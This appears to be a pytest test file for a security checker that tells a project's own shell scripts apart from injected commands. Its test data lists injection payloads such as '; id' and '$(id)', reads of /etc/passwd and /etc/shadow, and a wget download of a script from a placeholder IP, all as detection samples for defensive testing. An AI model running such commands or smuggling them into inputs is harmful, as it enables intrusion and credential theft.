"""Whose a command line is."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nightlatch.checks.attacks.shell.own_scripts import is_own_script, shows_a_stranger
from nightlatch.checks.attacks.shell.reading import commands_in

OWN = (
    "apt-get -y update && hostname",
    "Run npm ci || true",
    "cd /srv/app && ls",
    "$ find . -name x",
    "# cd source; ls",
    "#!/bin/sh\nls -la",
    "#cloud-config\nruncmd: []",
    "set -e; ls",
    "NODE_ENV=test npx jest --ci",
    "$FIND|cpio -p",
    "./gradlew build; ls",
)
OTHERS = (
    "",
    "; id",
    "127.0.0.1; ls",
    "make-up | ls",
    "$IFS;id",
    "#;id",
    "> /tmp/x;id",
    "go; id",
    "gitlab; id",
    "$(id)",
    "cat /etc/passwd",
)


@pytest.mark.parametrize("text", OWN)
def test_what_builders_and_terminals_write(text: str) -> None:
    assert is_own_script(text)


@pytest.mark.parametrize("text", OTHERS, ids=repr)
def test_what_they_do_not_begin_with(text: str) -> None:
    assert not is_own_script(text)


STRANGERS = {
    "cd /tmp; cat /etc/shadow": True,
    "cd /tmp; wget http://203.0.113.9/a.sh": True,
    "git log; c'a't x.txt": True,
    "cd /srv; curl http://10.0.0.5/health": False,
    "cd /srv; curl -O https://example.com/a.tgz": False,
    "cd /srv; hostname > /var/www/index.html": False,
    "make x; sleep 10": False,
}


@pytest.mark.parametrize("text", STRANGERS, ids=repr)
def test_what_no_own_script_says(text: str) -> None:
    assert any(map(shows_a_stranger, commands_in(text))) is STRANGERS[text]


@settings(max_examples=60, deadline=None)
@given(st.text(alphabet="#$> Rungit=A_/.\n", max_size=400))
def test_anything_may_be_asked(text: str) -> None:
    is_own_script(text)
